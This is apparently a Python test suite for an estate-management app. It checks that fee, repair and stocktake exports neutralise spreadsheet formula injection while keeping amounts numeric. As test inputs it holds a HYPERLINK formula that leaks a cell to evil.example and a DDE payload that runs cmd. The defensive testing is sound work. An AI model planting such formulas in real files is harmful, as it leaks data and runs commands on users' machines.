"""No export turns typed text into a spreadsheet formula (OWASP CSV injection), and numbers stay numbers.

A payer named `=HYPERLINK(...)`, a fee item `+SUM(...)`, a void reason `@...`, a repair
description `=cmd|...`, a stock item `-2+3`: in each CSV the cell starts with an apostrophe, in
each XLSX it is a string cell, not a formula. Money, negative amounts included, is left alone.
"""
from __future__ import annotations

import csv
import io
import uuid
from decimal import Decimal

import openpyxl
import pytest

from app.domain import spreadsheet
from app.domain.auth.roles import Role
from app.domain.fees.model import FeeKind
from app.domain.fees.payments import receipts
from app.jobs.runner import run_job
from tests.factories import make_staff
from tests.fees_factories import make_fee_item
from tests.helpers.fee_reports import API, Books, books, local
from tests.helpers.stock import count, new_item, open_count, store
from tests.registry_factories import make_building, make_unit, two_estates
from tests.repairs_factories import make_order

PAYER = '=HYPERLINK("http://evil.example/?leak="&A1,"点此领取")'
ITEM = "+SUM(1,2)"
REASON = "@SUM(A1:A9)"
CASHIER = "-2+3"
ESTATE = "=1+1 花园"
DESCRIPTION = "=cmd|' /C calc'!A0"
TYPED = {PAYER, ITEM, REASON, CASHIER, ESTATE, DESCRIPTION}


def csv_rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def cells_holding(rows: list[list[str]], typed: str) -> list[str]:
    return [c for row in rows for c in row if typed in c]


def assert_csv_neutral(rows: list[list[str]], *typed: str) -> None:
    for text in typed:
        found = cells_holding(rows, text)
        assert found, f"{text!r} does not reach the CSV"
        for cell in found:
            assert not cell.startswith(spreadsheet.FORMULA_STARTS), cell
            if cell.startswith(text[:1]) or cell[1:].startswith(text):
                assert cell.startswith("'"), cell


def assert_xlsx_neutral(body: bytes, *typed: str, titled: str = "") -> None:
    """The typed text is in string cells; `titled` (the estate's name) heads each printed page."""
    book = openpyxl.load_workbook(io.BytesIO(body))
    for sheet in book if titled else ():
        assert titled in sheet.oddHeader.center.text, sheet.title
    for text in typed:
        found = [c for sheet in book for row in sheet.iter_rows() for c in row
                 if isinstance(c.value, str) and text in c.value]
        assert found, f"{text!r} does not reach the XLSX"
        for cell in found:
            assert cell.data_type == "s" and not str(cell.value).startswith("="), (cell.coordinate, cell.value)
    # No cell anywhere in the book is a formula.
    assert not [c for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]


async def formula_books(session) -> Books:
    """November 2026 (week 2026-W48): a payment by a typed payer for a typed fee item, a void with a typed reason, a refund."""
    b = await books(session)
    b.estate.name = ESTATE
    session.add(b.estate)
    await session.commit()
    b.items["odd"] = await make_fee_item(session, estate=b.estate, code="odd", name=ITEM, kind=FeeKind.fixed, price="10.00")
    await b.charge(session, "A-odd", "A", "odd", "160.56", "2026-11")
    await b.charge(session, "B-odd", "B", "odd", "80.00", "2026-11")
    b.colleague = await make_staff(session, estates=[b.estate], roles=[Role.receptionist], full_name=CASHIER)
    await b.pay(session, "A", "200.00", local(2026, 11, 23, 10), "A-odd", payer=PAYER, by=b.colleague)
    wrong = await b.pay(session, "B", "80.00", local(2026, 11, 24, 10), "B-odd", payer=PAYER)
    await receipts.void_receipt(session, actor=b.actor(b.cashier), receipt_id=wrong, reason=REASON, now=local(2026, 11, 24, 11))
    await session.commit()
    await b.refund(session, "A", "12.50", local(2026, 11, 25, 10))  # of the 39.44 kept on account
    return b


def assert_money_stays_numbers_in_csv(rows: list[list[str]]) -> None:
    cells = [c for row in rows for c in row]
    assert "-12.50" in cells and "'-12.50" not in cells


def assert_money_stays_numbers_in_xlsx(body: bytes) -> None:
    book = openpyxl.load_workbook(io.BytesIO(body))
    negatives = [c for sheet in book for row in sheet.iter_rows() for c in row
                 if isinstance(c.value, int | float | Decimal) and c.value == Decimal("-12.50")]
    assert negatives and all(c.data_type == "n" for c in negatives)


class TestFeeReports:
    async def test_saturday_register(self, client, session):
        b = await formula_books(session)
        url = f"{API}/estates/{b.estate.id}/fee-reports/saturday-register"
        r = await client.get(url, params={"week": "2026-W48", "format": "csv"}, headers=b.reader.headers)
        assert r.status_code == 200, r.text
        rows = csv_rows(r.content)
        assert_csv_neutral(rows, PAYER, ITEM, REASON, CASHIER, ESTATE)
        assert f"'{PAYER}" in [c for row in rows for c in row]
        assert_money_stays_numbers_in_csv(rows)
        r = await client.get(url, params={"week": "2026-W48", "format": "xlsx"}, headers=b.reader.headers)
        assert r.status_code == 200, r.text
        assert_xlsx_neutral(r.content, PAYER, ITEM, REASON, CASHIER, titled=ESTATE)
        assert_money_stays_numbers_in_xlsx(r.content)

    async def test_month_end_report(self, client, session):
        b = await formula_books(session)
        url = f"{API}/estates/{b.estate.id}/fee-reports/month-end"
        r = await client.get(url, params={"month": "2026-11", "format": "csv"}, headers=b.reader.headers)
        assert r.status_code == 200, r.text
        rows = csv_rows(r.content)
        assert_csv_neutral(rows, ITEM, ESTATE)
        assert [f"'{ITEM}" == c for row in rows for c in row].count(True) == 1
        r = await client.get(url, params={"month": "2026-11", "format": "xlsx"}, headers=b.reader.headers)
        assert r.status_code == 200, r.text
        assert_xlsx_neutral(r.content, ITEM, titled=ESTATE)

    @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
    async def test_stored_reports(self, app, client, session, fmt):
        b = await formula_books(session)
        [run] = await run_job(app.state.sessionmaker, "saturday_register", estate_id=b.estate.id, period="2026-W48")
        assert run.status == "succeeded"
        [item] = (await client.get(f"{API}/estates/{b.estate.id}/fee-reports", headers=b.reader.headers)).json()["items"]
        r = await client.get(f"{API}/fee-reports/{item['id']}", params={"format": fmt}, headers=b.reader.headers)
        assert r.status_code == 200, r.text
        if fmt == "csv":
            assert_csv_neutral(csv_rows(r.content), PAYER, ITEM, REASON, CASHIER)
        else:
            assert_xlsx_neutral(r.content, PAYER, ITEM, REASON, CASHIER)


async def test_daily_repair_log(client, session):
    estate, _ = await two_estates(session)
    unit = await make_unit(session, building=await make_building(session, estate=estate, number=8))
    await make_order(session, estate=estate, unit=unit, description=DESCRIPTION, category="+plumbing")
    desk = await make_staff(session, estates=[estate], roles=[Role.receptionist])
    r = await client.get(f"{API}/estates/{estate.id}/repairs/daily-log", params={"format": "csv"}, headers=desk.headers)
    assert r.status_code == 200, r.text
    rows = csv_rows(r.content)
    assert_csv_neutral(rows, DESCRIPTION, "+plumbing")
    assert rows[2][5] == "'" + DESCRIPTION


async def test_stocktake_report(client, session):
    s = await store(session)
    s.estate.name = ESTATE
    session.add(s.estate)
    await session.commit()
    odd = await new_item(client, s, code="X1", name="-2+3 膠布", unit="@卷", cost="12.50", stock="3")
    st = await open_count(client, s)
    await count(client, s, st, [(odd, "2")])  # one short: -12.50
    finance = await make_staff(session, estates=[s.estate], roles=[Role.finance])
    r = await client.get(f"{API}/stocktakes/{st['id']}/report", params={"format": "csv"}, headers=finance.headers)
    assert r.status_code == 200, r.text
    rows = csv_rows(r.content)
    assert_csv_neutral(rows, "-2+3 膠布", "@卷", ESTATE)
    line = next(row for row in rows if row[1:2] == ["X1"])
    assert line[2:4] == ["'-2+3 膠布", "'@卷"]
    assert line[8] == "-1.000" and line[12] == "-12.50"  # the shortage is a number, not quoted text
    assert next(row for row in rows if row[0] == "合計")[12] == "-12.50"


@pytest.mark.parametrize(("typed", "written"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("a=1", "a=1"), ("王建國", "王建國"), ("", ""),
])
def test_one_rule_for_text(typed, written):
    assert spreadsheet.safe_text(typed) == written
    assert spreadsheet.csv_cell(typed) == written


def test_numbers_stay_numbers():
    assert spreadsheet.csv_row([Decimal("-12.50"), -3, 1.5, None]) == [Decimal("-12.50"), -3, 1.5, ""]
    book = openpyxl.Workbook()
    cells = spreadsheet.append_row(book.active, ["=1+1", Decimal("-12.50"), -3, None, "=SUM(A1)"])
    assert [c.data_type for c in cells] == ["s", "n", "n", "n", "s"]
    assert [c.value for c in cells] == ["'=1+1", Decimal("-12.50"), -3, None, "'=SUM(A1)"]


def test_unit_ids_are_not_touched():
    u = uuid.uuid4()
    assert spreadsheet.csv_cell(u) == str(u)
